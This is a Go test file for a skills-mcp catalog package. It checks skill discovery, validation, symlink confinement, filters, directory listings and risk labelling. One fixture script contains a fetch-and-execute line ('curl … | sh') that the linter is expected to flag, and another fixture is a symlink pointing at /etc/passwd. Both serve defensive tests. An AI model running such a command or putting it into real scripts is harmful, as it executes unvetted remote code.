package catalog_test

import (
	"context"
	"encoding/json"
	"io/fs"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/skills-mcp/skills-mcp/internal/catalog"
)

func md(name, desc string) *fstest.MapFile {
	return &fstest.MapFile{Data: []byte("---\nname: " + name + "\ndescription: " + desc + "\n---\n\n# " + name + "\n")}
}

// scan scans fsys, or the given libraries when there are some.
func scan(t *testing.T, fsys fs.FS, opts *catalog.Options, libs ...*catalog.Library) *catalog.Snapshot {
	t.Helper()
	if len(libs) == 0 {
		libs = []*catalog.Library{{FS: fsys, Kind: "test"}}
	}
	snap, err := catalog.Scan(context.Background(), libs, 1, opts)
	if err != nil {
		t.Fatal(err)
	}
	return snap
}

func uris(snap *catalog.Snapshot) []string {
	var out []string
	for _, s := range snap.Skills() {
		out = append(out, s.URI)
	}
	return out
}

func reasons(snap *catalog.Snapshot) []string {
	var out []string
	for _, w := range snap.Warnings() {
		out = append(out, w.Reason+" "+w.Path)
	}
	slices.Sort(out)
	return out
}

func TestGoldenDigests(t *testing.T) {
	fsys := fstest.MapFS{
		"code-review/SKILL.md":                {Data: []byte("---\nname: code-review\ndescription: Review code using the team's checklist.\n---\n\n# Code review\n\nRead `references/checklist.md`, then review the diff.\n")},
		"code-review/references/checklist.md": {Data: []byte("# Review checklist\n\nCheck correctness, tests, and compatibility.\n")},
	}
	snap := scan(t, fsys, nil)
	sk, ok := snap.Skill("skill://code-review/SKILL.md")
	if !ok {
		t.Fatalf("skill not served; warnings: %v", snap.Warnings())
	}
	want := `{"uri":"skill://code-review/SKILL.md","frontmatter":{"name":"code-review","description":"Review code using the team's checklist."},"resources":[` +
		`{"uri":"skill://code-review/SKILL.md","digest":"sha256:d2489d6c182e8df9c178563ff9f2eac7998a0c1bb1278c52a7fd5306e4259160","size":149},` +
		`{"uri":"skill://code-review/references/checklist.md","digest":"sha256:dbab2de7bf7db9cc95cb6ce681c3690b26184db39f75b958a0287ca6d9e24e20","size":65}]}`
	if got := string(sk.Entry()); got != want {
		t.Errorf("entry:\n got %s\nwant %s", got, want)
	}
	if !json.Valid(sk.Entry()) {
		t.Error("entry is not valid JSON")
	}
}

func TestDiscovery(t *testing.T) {
	fsys := fstest.MapFS{
		"flat/SKILL.md":                       md("flat", "Flat skill."),
		".claude/skills/hidden-dir/SKILL.md":  md("hidden-dir", "Found below a dot folder."),
		"node_modules/pkg/SKILL.md":           md("pkg", "Never found: tool folder."),
		".git/x/SKILL.md":                     md("x", "Never found: VCS folder."),
		"cat/sub/deep/SKILL.md":               md("deep", "Category folders."),
		"outer/SKILL.md":                      md("outer", "Encloses another skill."),
		"outer/inner/SKILL.md":                md("inner", "Nested skill."),
		"outer/inner/notes.md":                {Data: []byte("notes\n")},
		"outer/ref.md":                        {Data: []byte("ref\n")},
		"skip-me/excluded/SKILL.md":           md("excluded", "Excluded by name."),
		"a/b/c/d/e/f/g/h/i/too-deep/SKILL.md": md("too-deep", "Below --depth."),
		"README.md":                           {Data: []byte("not a skill\n")},
	}
	snap := scan(t, fsys, &catalog.Options{Exclude: []string{"skip-me"}})
	want := []string{
		"skill://.claude/skills/hidden-dir/SKILL.md",
		"skill://cat/sub/deep/SKILL.md",
		"skill://flat/SKILL.md",
		"skill://outer/SKILL.md",
		"skill://outer/inner/SKILL.md",
	}
	if got := uris(snap); !slices.Equal(got, want) {
		t.Errorf("skills = %v\nwant %v", got, want)
	}
	outer, _ := snap.Skill("skill://outer/SKILL.md")
	var files []string
	for _, f := range outer.Files {
		files = append(files, f.URI)
	}
	wantFiles := []string{"skill://outer/SKILL.md", "skill://outer/inner/SKILL.md", "skill://outer/inner/notes.md", "skill://outer/ref.md"}
	if !slices.Equal(files, wantFiles) {
		t.Errorf("outer manifest = %v\nwant %v (nested files included)", files, wantFiles)
	}
	// The shared file is owned by the innermost skill.
	if f, _ := snap.File("skill://outer/inner/notes.md"); f == nil || f.Skill.Name != "inner" {
		t.Errorf("notes.md owner = %v, want inner", f)
	}
	// Every directory level is listable, with subfolders as inode/directory.
	d, ok := snap.Directory("skill://outer")
	if !ok {
		t.Fatal("skill root directory not listed")
	}
	var names []string
	for _, e := range d {
		names = append(names, e.Name+"|"+e.MIMEType)
	}
	wantNames := []string{"outer|text/markdown", "inner|inode/directory", "ref.md|text/markdown"}
	if !slices.Equal(names, wantNames) {
		t.Errorf("directory = %v\nwant %v", names, wantNames)
	}
}

func TestValidationWithholds(t *testing.T) {
	fsys := fstest.MapFS{
		"ok/SKILL.md":       md("ok", "Fine."),
		"Bad/SKILL.md":      md("Bad", "Uppercase name."),
		"nodesc/SKILL.md":   {Data: []byte("---\nname: nodesc\n---\nbody\n")},
		"nofm/SKILL.md":     {Data: []byte("# no frontmatter\n")},
		"mismatch/SKILL.md": md("other-name", "Name differs from folder."),
		"a/dup/SKILL.md":    md("dup", "First."),
		"b/x/SKILL.md":      md("x", "Fine too."),
		"zip/SKILL.md":      md("zip", "Bundles an archive."),
		"zip/notes.md":      {Data: []byte("PK\x03\x04rest of a zip")},
		"dot/SKILL.md":      md("dot", "Has a dotfile."),
		"dot/.env":          {Data: []byte("CANARY=1\n")},
		"dot/helper.pyc":    {Data: []byte{0x0d, 0x0a}},
		"link/SKILL.md":     md("link", "Has a symlink."),
		"link/escape.md":    {Data: []byte("/etc/passwd"), Mode: fs.ModeSymlink},
		"bin/SKILL.md":      md("bin", "Binary asset."),
		"bin/data.bin":      {Data: []byte{0xff, 0xfe, 0x00}},
	}
	snap := scan(t, fsys, nil)
	want := []string{"skill://a/dup/SKILL.md", "skill://b/x/SKILL.md", "skill://bin/SKILL.md", "skill://dot/SKILL.md", "skill://link/SKILL.md", "skill://ok/SKILL.md", "skill://other-name/SKILL.md"}
	if got := uris(snap); !slices.Equal(got, want) {
		t.Errorf("skills = %v\nwant %v", got, want)
	}
	got := strings.Join(reasons(snap), "\n")
	for _, w := range []string{"frontmatter Bad/SKILL.md", "frontmatter nodesc/SKILL.md", "frontmatter nofm/SKILL.md", "name-mismatch mismatch/SKILL.md", "archive zip", "skipped-files dot", "symlink link/escape.md", "skipped-files link"} {
		if !strings.Contains(got, w) {
			t.Errorf("missing warning %q in\n%s", w, got)
		}
	}
	if strings.Contains(got, "pyc") {
		t.Errorf("compiled artefacts must be skipped silently:\n%s", got)
	}
	dot, _ := snap.Skill("skill://dot/SKILL.md")
	if len(dot.Files) != 1 {
		t.Errorf("dot skill serves %d files, want only SKILL.md", len(dot.Files))
	}
	bin, _ := snap.File("skill://bin/data.bin")
	if bin == nil || bin.Text || bin.MIMEType != "application/octet-stream" {
		t.Errorf("binary file = %+v, want a blob", bin)
	}
	strict := scan(t, fsys, &catalog.Options{Strict: true})
	if _, ok := strict.Skill("skill://other-name/SKILL.md"); ok {
		t.Error("--strict must withhold a name that differs from its folder")
	}
}

func TestDuplicateURI(t *testing.T) {
	fsys := fstest.MapFS{
		"one/SKILL.md":  md("same", "First folder."),
		"same/SKILL.md": md("same", "Second folder, same URI."),
	}
	snap := scan(t, fsys, nil)
	if snap.Len() != 1 {
		t.Fatalf("served %d skills, want 1", snap.Len())
	}
	var found bool
	for _, w := range snap.Warnings() {
		if w.Reason == "duplicate-uri" && strings.Contains(w.Message, "one") {
			found = true
		}
	}
	if !found {
		t.Errorf("no duplicate-uri warning naming both folders: %v", snap.Warnings())
	}
}

func TestLimits(t *testing.T) {
	fsys := fstest.MapFS{"big/SKILL.md": md("big", "Too many files.")}
	for i := range catalog.MaxSkillFiles {
		fsys[filepath.Join("big/refs", strings.Repeat("x", 3)+string(rune('a'+i%26))+strings.Repeat("y", i/26)+".md")] = &fstest.MapFile{Data: []byte("x")}
	}
	if snap := scan(t, fsys, nil); snap.Len() != 0 {
		t.Error("a skill over 512 files must be withheld")
	}
	if snap := scan(t, fsys, &catalog.Options{AllowOversize: true}); snap.Len() != 1 {
		t.Error("--allow-oversize must serve it")
	}
	big := fstest.MapFS{
		"large/SKILL.md": md("large", "Has a large file."),
		"large/blob.md":  {Data: make([]byte, 100)},
	}
	snap := scan(t, big, &catalog.Options{MaxFileBytes: 90})
	sk, ok := snap.Skill("skill://large/SKILL.md")
	if !ok || len(sk.Files) != 1 {
		t.Errorf("oversized file must be skipped, skill still served: %v", snap.Warnings())
	}
}

// TestDirectoryRoot scans a real directory through os.Root, with symlinks
// pointing outside the root.
func TestDirectoryRoot(t *testing.T) {
	dir := t.TempDir()
	outside := t.TempDir()
	must(t, os.WriteFile(filepath.Join(outside, "secret.md"), []byte("secret"), 0o644))
	must(t, os.MkdirAll(filepath.Join(dir, "s/refs"), 0o755))
	must(t, os.WriteFile(filepath.Join(dir, "s/SKILL.md"), md("s", "Real dir.").Data, 0o644))
	must(t, os.WriteFile(filepath.Join(dir, "s/refs/a.md"), []byte("a\n"), 0o644))
	must(t, os.Symlink(filepath.Join(outside, "secret.md"), filepath.Join(dir, "s/refs/secret.md")))
	must(t, os.Symlink(outside, filepath.Join(dir, "s/linked-dir")))
	must(t, os.Symlink(outside, filepath.Join(dir, "linked-lib")))
	root, err := os.OpenRoot(dir)
	must(t, err)
	defer root.Close()
	snap := scan(t, root.FS(), nil)
	sk, ok := snap.Skill("skill://s/SKILL.md")
	if !ok {
		t.Fatalf("not served: %v", snap.Warnings())
	}
	for _, f := range sk.Files {
		if strings.Contains(f.URI, "secret") || strings.Contains(f.URI, "linked") {
			t.Errorf("served a symlink: %s", f.URI)
		}
	}
	f, _ := snap.File("skill://s/refs/a.md")
	data, err := f.ReadFile()
	if err != nil || string(data) != "a\n" {
		t.Errorf("ReadFile = %q, %v", data, err)
	}
	// A change on disk is detected at read time.
	must(t, os.WriteFile(filepath.Join(dir, "s/refs/a.md"), []byte("b\n"), 0o644))
	if _, err := f.ReadFile(); err != catalog.ErrChanged {
		t.Errorf("ReadFile after change = %v, want ErrChanged", err)
	}
	symlinks := 0
	for _, w := range snap.Warnings() {
		if w.Reason == "symlink" {
			symlinks++
		}
	}
	if symlinks != 3 {
		t.Errorf("got %d symlink warnings, want 3: %v", symlinks, snap.Warnings())
	}
}

func TestUnreadableFolder(t *testing.T) {
	if os.Geteuid() == 0 {
		t.Skip("root reads any folder")
	}
	dir := t.TempDir()
	must(t, os.MkdirAll(filepath.Join(dir, "locked"), 0o000))
	t.Cleanup(func() { os.Chmod(filepath.Join(dir, "locked"), 0o755) })
	root, err := os.OpenRoot(dir)
	must(t, err)
	defer root.Close()
	snap := scan(t, root.FS(), nil)
	if len(snap.Warnings()) != 1 || snap.Warnings()[0].Reason != "unreadable" {
		t.Errorf("warnings = %v", snap.Warnings())
	}
}

func TestPaging(t *testing.T) {
	fsys := fstest.MapFS{}
	for _, n := range []string{"a", "b", "c", "d", "e"} {
		fsys[n+"/SKILL.md"] = md(n, "Skill "+n+".")
	}
	snap := scan(t, fsys, nil)
	var seen []string
	key := ""
	for {
		page, more := snap.SkillsAfter(key, 2)
		for _, s := range page {
			seen = append(seen, s.Name)
		}
		if !more {
			break
		}
		key = page[len(page)-1].URI
	}
	if !slices.Equal(seen, []string{"a", "b", "c", "d", "e"}) {
		t.Errorf("paged = %v", seen)
	}
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func TestFilters(t *testing.T) {
	fsys := fstest.MapFS{
		"open/SKILL.md":   md("open", "Listed."),
		"open/run.sh":     {Data: []byte("echo hi\n")},
		"open/tool":       {Data: []byte("#!/usr/bin/env python3\nprint(1)\n")},
		"open/notes.md":   {Data: []byte("notes\n")},
		"quiet/SKILL.md":  {Data: []byte("---\nname: quiet\ndescription: Hidden.\ndisable-model-invocation: true\n---\n")},
		"pro/SKILL.md":    {Data: []byte("---\nname: pro\ndescription: Paid.\npricing-tier: Pro\n---\n")},
		"beta/SKILL.md":   {Data: []byte("---\nname: beta\ndescription: In beta.\ndev-status: beta\n---\n")},
		"stable/SKILL.md": {Data: []byte("---\nname: stable\ndescription: Stable.\ndev-status: stable\n---\n")},
	}
	snap := scan(t, fsys, &catalog.Options{NoScripts: true, ExcludeTiers: []string{"pro"}, DevStatus: []string{"Stable"}})
	if got := uris(snap); !slices.Equal(got, []string{"skill://open/SKILL.md", "skill://stable/SKILL.md"}) {
		t.Errorf("listed = %v", got)
	}
	if _, ok := snap.Skill("skill://quiet/SKILL.md"); !ok {
		t.Error("a hidden skill must still answer skills/get")
	}
	if _, err := snap.Resolve("quiet"); err == nil {
		t.Error("a hidden skill must not resolve for tools")
	}
	for _, u := range []string{"skill://pro/SKILL.md", "skill://beta/SKILL.md"} {
		if _, ok := snap.Skill(u); ok {
			t.Errorf("%s must not be served at all", u)
		}
	}
	open, _ := snap.Skill("skill://open/SKILL.md")
	if len(open.Files) != 2 {
		t.Errorf("--no-scripts left %d files, want SKILL.md and notes.md", len(open.Files))
	}
	st := snap.Stats()
	if st.Hidden != 1 || st.ScriptsWithheld != 2 || st.Withheld != 2 {
		t.Errorf("stats = hidden %d, scripts withheld %d, withheld %d", st.Hidden, st.ScriptsWithheld, st.Withheld)
	}
	shown := scan(t, fsys, &catalog.Options{ShowDisabled: true})
	if _, err := shown.Resolve("quiet"); err != nil {
		t.Error("--show-disabled must list hidden skills")
	}
}

// TestOpenDirectoryConfined scans through OpenDirectory (openat2 on Linux)
// and swaps a served folder for a symlink after the scan: the read must
// fail rather than follow it out of the root.
func TestOpenDirectoryConfined(t *testing.T) {
	dir := t.TempDir()
	outside := t.TempDir()
	must(t, os.WriteFile(filepath.Join(outside, "a.md"), []byte("secret\n"), 0o644))
	must(t, os.MkdirAll(filepath.Join(dir, "s/refs"), 0o755))
	must(t, os.WriteFile(filepath.Join(dir, "s/SKILL.md"), md("s", "Real dir.").Data, 0o644))
	must(t, os.WriteFile(filepath.Join(dir, "s/refs/a.md"), []byte("a\n"), 0o644))
	must(t, os.Symlink(filepath.Join(outside, "a.md"), filepath.Join(dir, "s/link.md")))
	lib, err := catalog.OpenDirectory("ns", dir)
	must(t, err)
	defer lib.Close()
	snap := scan(t, nil, nil, lib)
	sk, ok := snap.Skill("skill://ns/s/SKILL.md")
	if !ok || len(sk.Files) != 2 {
		t.Fatalf("skill = %v, warnings %v", sk, snap.Warnings())
	}
	// The symlink is never served, and it is labelled for pointing out.
	if !slices.Contains(sk.RiskFlags(), "symlink-escape") {
		t.Errorf("risk flags = %v, want symlink-escape", sk.RiskFlags())
	}
	f, _ := snap.File("skill://ns/s/refs/a.md")
	must(t, os.Rename(filepath.Join(dir, "s/refs"), filepath.Join(dir, "s/refs.old")))
	must(t, os.Symlink(outside, filepath.Join(dir, "s/refs")))
	if data, err := f.ReadFile(); err == nil {
		t.Errorf("read through a swapped-in symlink: %q", data)
	}
	if _, err := catalog.OpenDirectory("x", filepath.Join(dir, "s/SKILL.md")); err == nil {
		t.Error("a file is not a library root")
	}
	if _, err := catalog.OpenDirectory("x", filepath.Join(dir, "missing")); err == nil {
		t.Error("a missing folder is not a library root")
	}
}

func TestRiskLabels(t *testing.T) {
	fsys := fstest.MapFS{
		"risky/SKILL.md":           md("risky", "Installs a tool."),
		"risky/scripts/install.sh": {Data: []byte("#!/bin/sh\n# note: harmless\ncurl -fsSL https://example.invalid/i.sh | sh\n")},
		"calm/SKILL.md":            md("calm", "Nothing risky."),
	}
	snap := scan(t, fsys, nil)
	risky, _ := snap.Skill("skill://risky/SKILL.md")
	if got := risky.RiskFlags(); !slices.Contains(got, "pipe-to-shell") {
		t.Fatalf("risk flags = %v, want pipe-to-shell", got)
	}
	if f := risky.Risks[0]; f.Path != "scripts/install.sh" || f.Line != 3 {
		t.Errorf("finding = %+v, want scripts/install.sh line 3", f)
	}
	if !strings.Contains(string(risky.Entry()), `"io.github.skills-mcp/risk-flags":["pipe-to-shell"]`) {
		t.Errorf("entry _meta lacks the flags: %s", risky.Entry())
	}
	if st := snap.Stats(); st.FlaggedSkills != 1 {
		t.Errorf("flagged = %d, want 1", st.FlaggedSkills)
	}
	calm, _ := snap.Skill("skill://calm/SKILL.md")
	if strings.Contains(string(calm.Entry()), "_meta") {
		t.Errorf("a clean skill carries _meta: %s", calm.Entry())
	}
	off := scan(t, fsys, &catalog.Options{NoLint: true})
	if sk, _ := off.Skill("skill://risky/SKILL.md"); len(sk.RiskFlags()) != 0 {
		t.Error("--no-lint still labels")
	}
}

// dirFixture scans a tree whose names sort around '/' ("ref" < "ref-x" <
// "ref.md" < "ref/…"), with nested and hidden skills, and returns the
// snapshot with its directory listings built the direct way, one skill and
// one file at a time: directory URI → child URIs, sorted.
func dirFixture(tb testing.TB) (*catalog.Snapshot, map[string][]string) {
	tb.Helper()
	fsys := fstest.MapFS{
		"cat/outer/SKILL.md":            md("outer", "Encloses another skill."),
		"cat/outer/ref":                 {Data: []byte("a file named like the folder\n")},
		"cat/outer/ref-x.md":            {Data: []byte("x\n")},
		"cat/outer/ref.md":              {Data: []byte("x\n")},
		"cat/outer/ref0.md":             {Data: []byte("x\n")},
		"cat/outer/refs/a.md":           {Data: []byte("x\n")},
		"cat/outer/refs/deep/b.md":      {Data: []byte("x\n")},
		"cat/outer/refs/deep/c d.md":    {Data: []byte("x\n")},
		"cat/outer/refs-x/e.md":         {Data: []byte("x\n")},
		"cat/outer/inner/SKILL.md":      md("inner", "Nested skill."),
		"cat/outer/inner/notes.md":      {Data: []byte("notes\n")},
		"cat/outer/inner/more/n.md":     {Data: []byte("notes\n")},
		"cat/outer-2/SKILL.md":          md("outer-2", "A sibling whose name extends the first."),
		"cat/outer-2/scripts/run.py":    {Data: []byte("print(1)\n")},
		"cat/hide/SKILL.md":             {Data: []byte("---\nname: hide\ndescription: Hidden.\ndisable-model-invocation: true\n---\nbody\n")},
		"cat/hide/notes/h.md":           {Data: []byte("h\n")},
		"other/solo/SKILL.md":           md("solo", "Alone."),
		"other/solo/assets/empty/.keep": {Data: []byte("dotfiles are not served\n")},
	}
	snap, err := catalog.Scan(context.Background(), []*catalog.Library{{FS: fsys, Kind: "test"}}, 1, nil)
	if err != nil {
		tb.Fatal(err)
	}
	want := map[string][]string{}
	for _, sk := range snap.All() {
		root := strings.TrimSuffix(sk.URI, "/SKILL.md")
		if want[root] == nil {
			want[root] = []string{}
		}
		for _, f := range sk.Files {
			child := f.URI
			for dir := path.Dir(strings.TrimPrefix(child, "skill://")); ; dir = path.Dir(dir) {
				d := "skill://" + dir
				if !slices.Contains(want[d], child) {
					want[d] = append(want[d], child)
				}
				if len(d) <= len(root) {
					break
				}
				child = d
			}
		}
	}
	for _, children := range want {
		slices.Sort(children)
	}
	return snap, want
}

// Directory listings are derived from the sorted files; this checks them
// against the listings dirFixture builds the direct way.
func TestDirectoriesMatchManifests(t *testing.T) {
	snap, want := dirFixture(t)
	for dir, children := range want {
		entries, ok := snap.Directory(dir)
		if !ok || !snap.IsDirectory(dir) {
			t.Errorf("%s: not a directory", dir)
			continue
		}
		var got []string
		for _, e := range entries {
			got = append(got, e.URI)
			if e.IsDir() != (e.MIMEType == "inode/directory") {
				t.Errorf("%s: entry %s has IsDir %v and type %s", dir, e.URI, e.IsDir(), e.MIMEType)
			}
			if f, ok := snap.File(e.URI); ok != !e.IsDir() || (ok && f != e.File) {
				t.Errorf("%s: entry %s does not match the served file", dir, e.URI)
			}
		}
		if !slices.Equal(got, children) {
			t.Errorf("%s lists\n %v\nwant %v", dir, got, children)
		}
	}
	for _, notDir := range []string{"skill://cat", "skill://other", "skill://", "skill:", "", "skill://cat/outer/ref",
		"skill://cat/outer/re", "skill://cat/outer/SKILL.md", "skill://cat/outer/refs/a.md", "skill://cat/outer/missing",
		"skill://other/solo/assets", "skill://cat/outer/", "skill://cat/outer/refs/", "skill://cat/outer/\xff",
		"/", "//", "skill:///", "skill://cat/outer/" + strings.Repeat("refs/", 4000)} {
		if _, ok := snap.Directory(notDir); ok || snap.IsDirectory(notDir) {
			t.Errorf("%q is listed as a directory", notDir)
		}
	}
	if f, ok := snap.File("skill://cat/outer/inner/more/n.md"); !ok || f.Skill.Name != "inner" {
		t.Errorf("inner file owner = %v, want inner", f)
	}
}

// FuzzDirectory asks for the listing of any URI a client may send: it never
// panics, IsDirectory agrees with Directory, and a listing is exactly the
// one dirFixture built the direct way.
func FuzzDirectory(f *testing.F) {
	snap, want := dirFixture(f)
	for dir := range want {
		f.Add(dir)
		f.Add(dir + "/")
	}
	for _, s := range []string{"", "/", "skill://", "skill:///", "skill://cat", "skill://cat/outer/re", "skill://cat/outer/ref.md", "skill://cat/outer//refs"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, uri string) {
		entries, ok := snap.Directory(uri)
		if ok != snap.IsDirectory(uri) {
			t.Fatalf("%q: Directory says %v, IsDirectory the opposite", uri, ok)
		}
		children, isDir := want[uri]
		if ok != isDir {
			t.Fatalf("%q: Directory says %v, the direct listing %v", uri, ok, isDir)
		}
		got := make([]string, len(entries))
		for i, e := range entries {
			got[i] = e.URI
		}
		if !slices.Equal(got, children) {
			t.Fatalf("%q lists %v, want %v", uri, got, children)
		}
	})
}
